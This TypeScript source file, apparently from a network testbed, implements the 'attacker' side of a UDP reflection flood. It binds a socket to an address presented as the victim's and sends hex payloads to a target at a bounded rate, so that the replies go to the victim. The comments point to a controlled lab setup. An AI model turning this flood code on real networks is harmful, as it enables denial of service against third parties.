// SPDX-License-Identifier: GPL-2.0-or-later
// The attacker: sends each message once and waits for nothing. It needs no raw socket to lie about its address: its host owns the victim's
// address, so that an ordinary socket can be bound to it, and the network routes the answers to the real victim.

import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { isIPv6 } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

export interface FloodTask {
  /** Whom the packets claim to come from. */
  readonly source: string
  readonly target: string
  readonly port: number
  /** UDP payloads in hex. */
  readonly messages: readonly string[]
  /** Between two packets: bounds the rate. */
  readonly gapMilliseconds: number
}

export interface FloodResult {
  readonly packets: number
}

export async function flood({ source, target, port, messages, gapMilliseconds }: FloodTask): Promise<FloodResult> {
  const socket = createSocket(isIPv6(source) ? 'udp6' : 'udp4')
  socket.bind(0, source)
  await once(socket, 'listening')
  for (const message of messages) {
    await new Promise<void>((resolve, reject) => {
      socket.send(Buffer.from(message, 'hex'), port, target, (error) => (error ? reject(error) : resolve()))
    })
    await sleep(gapMilliseconds)
  }
  socket.close()
  return { packets: messages.length }
}
